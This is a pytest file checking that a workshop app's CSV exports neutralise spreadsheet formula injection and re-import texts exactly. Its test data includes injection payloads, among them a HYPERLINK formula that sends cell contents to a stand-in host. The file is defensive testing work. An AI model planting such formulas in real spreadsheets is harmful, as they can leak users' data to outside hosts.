"""No CSV Verksted writes holds a cell a spreadsheet would run as a formula (OWASP: a leading
``'``), and Verksted's own CSV import reads its exports back to the original texts."""

from __future__ import annotations

import csv
from datetime import date

import pytest

from workshop.domain.spreadsheet import FORMULA_STARTS, text_cell, text_of_cell
from workshop.export.overview_csv import write_overview_csv
from workshop.export.tabular import write_csv
from workshop.services.actions import add_action, update_action
from workshop.services.csv_import import import_csv
from workshop.services.minutes import build_minutes
from workshop.services.notes import add_note, list_notes, set_stories
from workshop.services.overview import build_overview
from workshop.services.sessions import create_session

# Texts a spreadsheet would take as formulas (or as a formula's start).
HOSTILE = (
    "=SUM(A1:A9)",
    '=HYPERLINK("http://example.invalid/?q="&A1;"klikk")',
    "@x",
    "-3",
    "+47 22 33 44 55",
    "'=allerede merket",
    "'sitat",
)


def _cells(path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(text.splitlines(), delimiter=";") for cell in row]


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in FORMULA_STARTS]


@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\rx", "'", "", "vanlig tekst", "3;7"])
def test_a_cell_is_never_a_formula_and_reads_back_exactly(text):
    cell = text_cell(text)
    assert cell[:1] not in FORMULA_STARTS
    assert text_of_cell(cell) == text


def test_formula_starts_are_the_owasp_list():
    assert frozenset("=+-@\t\r") == FORMULA_STARTS


@pytest.fixture
def hostile_session(lib):
    sid = create_session(
        lib,
        "politician-workshop",
        '=HYPERLINK("http://example.invalid")',
        session_date=date(2026, 3, 4),
        place="@rådhuset",
        facilitators=["-Kari"],
        participants={"=Politikere": 3},
    )
    ids = [add_note(lib, sid, text, group="+gruppe") for text in HOSTILE]
    set_stories(lib, sid, {ids[0]: True})
    action = add_action(lib, sid, "=1+1", owner="@eier", note_ids=[ids[0]])
    update_action(lib, action, comment="-kommentar", story=True)
    return sid


def test_notes_csv_has_no_formula_and_imports_back_to_the_same_texts(
    lib, hostile_session, session_id, tmp_path
):
    path = tmp_path / "referat.csv"
    write_csv(build_minutes(lib, hostile_session), path)
    cells = _cells(path)
    assert _dangerous(cells) == []
    assert "'=SUM(A1:A9)" in cells and "'+47 22 33 44 55" in cells and "'+gruppe" in cells

    import_csv(lib, session_id, path)
    assert [n.text for n in list_notes(lib, session_id)] == list(HOSTILE)
    assert {n.group for n in list_notes(lib, session_id)} == {"+gruppe"}


def test_a_note_starting_with_a_tab_is_neutralised_too(lib, session_id, tmp_path):
    """Capture trims a note, but a note from a session file can start with a tab."""
    note = add_note(lib, session_id, "x")
    with lib.write() as s:
        s.connection().exec_driver_sql("UPDATE notes SET text = ? WHERE id = ?", ("\tx", note))
    path = tmp_path / "referat.csv"
    write_csv(build_minutes(lib, session_id), path)
    assert "'\tx" in _cells(path)
    assert _dangerous(_cells(path)) == []


def test_every_report_table_has_no_formula(lib, hostile_session, tmp_path):
    overview = build_overview(lib, date(2026, 1, 1), date(2026, 12, 31), language="nb")
    written = write_overview_csv(overview, tmp_path / "rapport", "nb")
    cells = [cell for path in written for cell in _cells(path)]
    assert _dangerous(cells) == []
    for marked in ('\'=HYPERLINK("http://example.invalid")', "'=1+1", "'@eier", "'=SUM(A1:A9)"):
        assert marked in cells, marked
    # numbers stay numbers
    summary = {
        r[0]: r[2]
        for r in csv.reader(
            (tmp_path / "rapport" / "summary.csv").read_bytes().decode("utf-8-sig").splitlines(),
            delimiter=";",
        )
    }
    assert summary["inputs"] == str(len(HOSTILE))


def test_the_command_line_exports_have_no_formula(
    lib, library_path, hostile_session, tmp_path, monkeypatch, capsys
):
    from workshop.cli import main

    monkeypatch.setenv("LANGUAGE", "en")
    notes = tmp_path / "notes.csv"
    assert (
        main(["--library", str(library_path), "export", hostile_session, "--csv", str(notes)]) == 0
    )
    report = tmp_path / "report"
    args = ["report", "--from", "2026-01-01", "--to", "2026-12-31", "--csv", str(report)]
    assert main(["--library", str(library_path), *args]) == 0
    written = [notes, *sorted(report.glob("*.csv"))]
    assert len(written) == 12
    cells = [cell for path in written for cell in _cells(path)]
    assert _dangerous(cells) == []
    assert "'=SUM(A1:A9)" in _cells(notes)
    capsys.readouterr()
